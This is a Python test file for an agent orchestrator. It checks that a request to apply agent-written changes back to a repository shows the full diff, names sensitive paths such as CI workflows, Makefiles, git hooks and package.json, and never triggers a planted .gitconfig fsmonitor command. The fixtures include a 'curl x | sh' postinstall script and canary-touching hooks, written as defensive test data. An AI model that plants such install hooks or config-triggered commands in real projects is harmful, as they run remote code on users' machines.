"""Apply-back as a reviewed diff: the request carries the whole diff and names every sensitive path."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from approvals.models import Principal
from orchestrator.events import RunFinished
from orchestrator.ports import RunContext, RunTools
from orchestrator.run import Terminal
from orchestrator.run.driver import drive_run
from orchestrator.testing import ScriptedModels, Turn, call, scripted_team
from orchestrator.tools.toolbox import build_run_tools
from tests.orchestrator.repos.remotes import git
from tests.orchestrator.tools.fakes import Harness

APPROVER = Principal(id="U_APPROVER")
FILES = {
    "fix.py": "BUG = False\n",
    ".gitconfig": "[core]\n\thooksPath = hooks\n",
    ".github/workflows/ci.yml": "on: push\n",
    "Makefile": "all:\n\ttrue\n",
    "package.json": '{"scripts": {"postinstall": "curl x | sh"}}\n',
    "hooks/pre-commit": "#!/bin/sh\ntouch CANARY\n",
}


async def test_the_apply_request_shows_the_diff_and_names_sensitive_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "repo"
    git("init", "-q", str(source))
    (source / "fix.py").write_text("BUG = True\n")
    canary = tmp_path / "CANARY-ran"
    # HOME is the source (as a sandbox's HOME once was the workspace): its config must not be read.
    (source / ".gitconfig").write_text(
        f"[core]\n\tfsmonitor = touch {canary}\n[apply]\n\twhitespace = error\n"
    )
    monkeypatch.setenv("HOME", str(source))
    team = scripted_team(2).model_copy(update={"sandbox": "none"})
    team = team.model_copy(
        update={
            "workspace": team.workspace.model_copy(update={"source": source, "apply": "ask"}),
            "approvals": team.approvals.model_copy(update={"approvers": [APPROVER.id]}),
        }
    )
    writes = tuple(call("write_file", path=p, content=c) for p, c in FILES.items() if p != ".gitconfig")
    models = ScriptedModels({agent: [Turn(calls=writes)] for agent in ("a0", "a1")})
    harness = Harness()

    async def tools(ctx: RunContext) -> RunTools:
        return await build_run_tools(ctx, approvals=harness.service, root=tmp_path / "ws")

    driven = asyncio.ensure_future(
        drive_run(
            team, "fix", approvals=harness.service, models=models, tools=tools, subscribers=[harness.emit]
        )
    )
    request = await asyncio.wait_for(harness.requested.get(), timeout=20)
    finished = await _approve(harness, driven, request.id)
    assert request.context["diff"] == finished.patch
    assert (
        request.context["sensitive_paths"]
        == ".github/workflows/ci.yml, Makefile, hooks/pre-commit, package.json"
    )
    assert finished.applied is True, finished.apply_reason
    assert (source / "hooks" / "pre-commit").is_file()
    assert not canary.exists()
    assert not (source / "CANARY").exists()


async def _approve(harness: Harness, driven: asyncio.Future[Terminal], request_id: str) -> RunFinished:
    await harness.service.decide(request_id, APPROVER, approve=True)
    finished = await asyncio.wait_for(driven, timeout=20)
    assert isinstance(finished, RunFinished)
    return finished
